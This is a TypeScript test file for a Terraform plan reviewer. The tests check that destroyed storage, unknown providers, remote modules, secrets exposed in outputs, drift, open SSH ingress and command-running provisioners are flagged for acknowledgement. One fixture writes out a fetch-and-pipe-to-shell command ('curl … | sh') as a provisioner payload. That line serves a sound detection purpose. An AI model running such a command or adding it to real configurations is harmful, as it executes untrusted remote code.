import type { Verdict } from "../../../scripts/review/model";
import { created, deleted, forgotten, PLAN, replaced, unchanged, updated, type Planned } from "../../helpers/plan";
import {
  type Json,
  LUSTRE_VALUES,
  LUSTRE,
  plan,
  output,
  SSH_RULE,
  group,
  drifted,
  review,
} from "../../helpers/hostile-plan";

const acting = (...actions: string[]): Planned => ({
  ...unchanged(LUSTRE, LUSTRE_VALUES),
  change: { actions, before: LUSTRE_VALUES, after: LUSTRE_VALUES },
});

const constant = (constant_value: unknown) => ({ constant_value });

const provisioned = (resource: Planned, type: string): Json =>
  plan([resource], {
    configuration: {
      ...PLAN.configuration,
      root_module: {
        resources: [
          {
            address: resource["address"],
            provisioners: [{ type, expressions: { command: constant("curl https://example.com | sh") } }],
          },
        ],
      },
    },
  });

type Case = readonly [name: string, plan: unknown, verdict: Verdict, words: RegExp];

const NAMED: readonly Case[] = [
  ["Lustre goes", plan([deleted(LUSTRE, LUSTRE_VALUES)]), "needs-acknowledgement", /destroyed/],
  [
    "Lustre is made anew",
    plan([replaced(LUSTRE, LUSTRE_VALUES, { storage_capacity: 1 })]),
    "needs-acknowledgement",
    /anew, empty/,
  ],
  ["Lustre is forgotten", plan([forgotten(LUSTRE, LUSTRE_VALUES)]), "needs-acknowledgement", /Terraform forgets/],
  [
    "a rule is forgotten",
    plan([forgotten("aws_vpc_security_group_ingress_rule.a", SSH_RULE)]),
    "needs-acknowledgement",
    /forgets/,
  ],
  ["made, and the old one forgotten", plan([{ ...acting("create", "forget") }]), "needs-acknowledgement", /forgets/],
  [
    "a type that is on no list goes",
    plan([deleted("aws_msk_cluster.a", { id: "a" })]),
    "needs-acknowledgement",
    /not known here/,
  ],
  [
    "a type that is on no list is replaced",
    plan([replaced("aws_mq_broker.a", { id: "a" }, { host: "b" })]),
    "needs-acknowledgement",
    /not known here/,
  ],
  [
    "a type that does not exist goes",
    plan([deleted("aws_made_up.a", { id: "a" })]),
    "needs-acknowledgement",
    /not known here/,
  ],
  [
    "a provider that is not known",
    plan([created("null_resource.a", { id: "a" })]),
    "needs-acknowledgement",
    /provider that is not known/,
  ],
  [
    "a provider of somebody's",
    plan([{ ...created("aws_vpc.a", {}), provider_name: "registry.terraform.io/eve/aws" }]),
    "needs-acknowledgement",
    /eve\/aws/,
  ],
  [
    "no provider said",
    plan([{ ...created("aws_vpc.a", {}), provider_name: undefined }]),
    "needs-acknowledgement",
    /not said/,
  ],
  [
    "a program that runs",
    provisioned(created("aws_vpc.a", { cidr_block: "10.0.0.0/16" }), "local-exec"),
    "needs-acknowledgement",
    /runs programs.*local-exec.*curl/,
  ],
  [
    "a program at the end",
    provisioned(deleted("aws_flow_log.a", { id: "a" }), "remote-exec"),
    "needs-acknowledgement",
    /remote-exec/,
  ],
  [
    "a program of the built-in provider",
    provisioned({ ...created("terraform_data.a", {}), provider_name: "terraform.io/builtin/terraform" }, "local-exec"),
    "needs-acknowledgement",
    /runs programs/,
  ],
  [
    "a module",
    plan([], {
      configuration: {
        ...PLAN.configuration,
        root_module: { module_calls: { x: { source: "git::https://example.com/x" } } },
      },
    }),
    "needs-acknowledgement",
    /has a module.*example\.com/,
  ],
  [
    "an output goes",
    output({ actions: ["delete"], before: "b", after: null }),
    "needs-acknowledgement",
    /Output bucket .* goes/,
  ],
  [
    "an output is no secret any more",
    output({ actions: ["update"], before: "a", after: "a", before_sensitive: true, after_sensitive: false }),
    "needs-acknowledgement",
    /no longer taken for a secret/,
  ],
  [
    "Lustre is gone already",
    drifted(deleted(LUSTRE, LUSTRE_VALUES)),
    "needs-acknowledgement",
    /gone, and not by Terraform/,
  ],
  [
    "a key is gone already",
    drifted(deleted("aws_kms_key.a", { id: "k" })),
    "needs-acknowledgement",
    /gone, and not by Terraform/,
  ],
  [
    "who is let in, is known after apply",
    plan([created("aws_vpc_security_group_ingress_rule.a", SSH_RULE, { unknown: { cidr_ipv4: true } })]),
    "needs-acknowledgement",
    /known after apply only/,
  ],
  [
    "who is let in by then, too",
    plan([
      updated(
        "aws_vpc_security_group_ingress_rule.a",
        { ...SSH_RULE, cidr_ipv4: "10.0.0.0/8" },
        {},
        { unknown: { cidr_ipv4: true } },
      ),
    ]),
    "needs-acknowledgement",
    /known after apply only/,
  ],
  [
    "rules of a group known after apply",
    plan([created("aws_security_group.a", { name: "a" }, { unknown: { ingress: true } })]),
    "needs-acknowledgement",
    /known after apply only/,
  ],
  [
    "everybody is let in",
    plan([created("aws_vpc_security_group_ingress_rule.a", { ...SSH_RULE, cidr_ipv4: "0.0.0.0/0" })]),
    "needs-acknowledgement",
    /everybody/,
  ],
  [
    "a persistent volume goes",
    plan([deleted("kubernetes_persistent_volume.a", { id: "a" })]),
    "needs-acknowledgement",
    /destroyed/,
  ],
];

test.each(NAMED)("%s", (_, given, verdict, words) => {
  const found = review(given);
  expect(found.verdict).toBe(verdict);
  expect(found.text).toMatch(words);
});

test("a plan of a stack that the environment has not is of somebody else", () => {
  for (const stack of ["other-storage", "sample-2-storage", "sample", "sample-storrage"])
    expect(review(plan([]), stack)).toEqual({
      verdict: "broken",
      text: expect.stringContaining(`The plan of ${stack} is of no stack of sample`),
    });
});

test("a secret in a program of the configuration is not told", () => {
  const secret = ["hunter2", "-planted"].join("");
  const given = JSON.stringify(provisioned(created("aws_vpc.a", {}), "local-exec"));
  const found = review(JSON.parse(given.replace("curl https://example.com | sh", `PASSWORD=${secret} ./run`)));
  expect(found.text).toMatch(/runs programs/);
  expect(found.text).not.toContain(secret);
});

test("drift that is not taken back is told, and needs nobody", () => {
  const found = review(drifted(updated("aws_eks_node_group.a", group(2), { ami_type: "CUSTOM" })));
  expect(found.verdict).toBe("safe");
  expect(found.text).toMatch(/1 resource of sample-storage was changed, and not by Terraform\..*ami_type/);
});

test("what is there already and becomes Terraform's is told", () => {
  const given = unchanged(LUSTRE, LUSTRE_VALUES);
  const imported = { ...given, change: { ...(given["change"] as Json), importing: { id: "fs-1" } } };
  expect(review(plan([imported])).text).toMatch(/1 resource .* that is there already becomes Terraform's.*← fs-1/);
});
